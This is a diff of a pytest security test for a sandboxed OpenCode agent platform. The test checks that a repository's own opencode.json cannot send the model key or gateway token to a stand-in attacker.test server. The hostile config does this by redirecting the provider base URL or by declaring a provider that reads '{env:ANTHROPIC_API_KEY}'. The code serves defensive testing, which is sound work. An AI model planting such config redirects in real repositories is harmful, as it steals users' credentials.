@@ -1,9 +1,10 @@
 """Attack: a repository's own OpenCode configuration (opencode.json at its root, or
-.opencode/opencode.json) tries to send the platform's model key to the attacker's server, by
-pointing the configured provider's base URL there or by declaring a provider of its own that
-reads the key from the environment ("{env:ANTHROPIC_API_KEY}"). The real OpenCode CLI runs in a
-real sandbox that can reach both servers; the attacker must see no request, the platform's
-endpoint must serve the turn."""
+.opencode/opencode.json) tries to send OpenCode's key — since the model gateway, the turn's
+token — to the attacker's server, by pointing the configured provider's base URL there or by
+declaring a provider of its own that reads the key from the environment
+("{env:ANTHROPIC_API_KEY}"). The real OpenCode CLI runs in a real sandbox that can reach the
+attacker's server (its allowlist names it) and the gateway (its door); the attacker must see no
+request, the platform's provider must serve the turn through the gateway."""
 
 from __future__ import annotations
 
@@ -13,11 +14,13 @@ import pytest
 
 from sessions.agents import get_runtime
 from sessions.agents.base import Author, Turn, TurnLimits
-from tests.sessions.agents.opencode_sandbox import configure, sandbox_for
-from tests.sessions.agents.standin_sandbox import skip_without_sandbox
+from tests.gateway.conftest import UPSTREAM_KEY
+from tests.sessions.agents.opencode_sandbox import configure
+from tests.sessions.agents.standin_sandbox import gateway_sandboxes
 from tests.standin_model import StandinModel
 
-KEY = "sk-platform-0123456789abcdef"
+# The turn's token is committed: the gateway process checks it through its own connection.
+pytestmark = pytest.mark.django_db(transaction=True)
 AUTHOR = Author(username="ada", name="Ada Engineer", email="ada@example.com")
 
 
@@ -46,22 +49,23 @@ def repo_config(attacker: str, how: str) -> dict:
     [("opencode.json", "base_url"), (".opencode/opencode.json", "own_provider")],
 )
 def test_a_repositorys_opencode_config_cannot_redirect_the_model_key(
-    tmp_path, settings, platform_clis, where, how
+    tmp_path, settings, platform_clis, where, how, gateway, fresh_upstream, mint
 ):
-    skip_without_sandbox()
-    with (
-        StandinModel(key=KEY) as platform,
-        StandinModel(key=None) as attacker,
-    ):
-        servers = {"model.test": platform, "attacker.test": attacker}
+    platform = fresh_upstream
+    with StandinModel(key=None) as attacker:
+        servers = {"attacker.test": attacker}
         files = {"README.md": "# widgets\n"}
-        # The URLs are known once the servers listen: their ports are in them.
-        platform_url = f"http://model.test:{platform.port}"
+        # The URL is known once the server listens: its port is in it.
         attacker_url = f"http://attacker.test:{attacker.port}"
         files[where] = json.dumps(repo_config(attacker_url, how))
-        configure(settings, "anthropic", platform_url, KEY)
-        with sandbox_for(tmp_path, platform_clis, files, servers) as (_, box, _urls):
-            runtime = get_runtime("opencode")
+        configure(settings, "anthropic", "", UPSTREAM_KEY)
+        with gateway_sandboxes(
+            tmp_path, platform_clis, gateway, platform, servers=servers
+        ) as sandboxes:
+            sandboxes.mint = mint
+            box = sandboxes.create(files, git="none")
+            box.run(["git", "init", "-q", "."], timeout=60)
+            runtime = get_runtime("opencode", route=sandboxes.turn_route("opencode"))
             turn = Turn(
                 sandbox=box,
                 prompt="create notes.txt with hello",
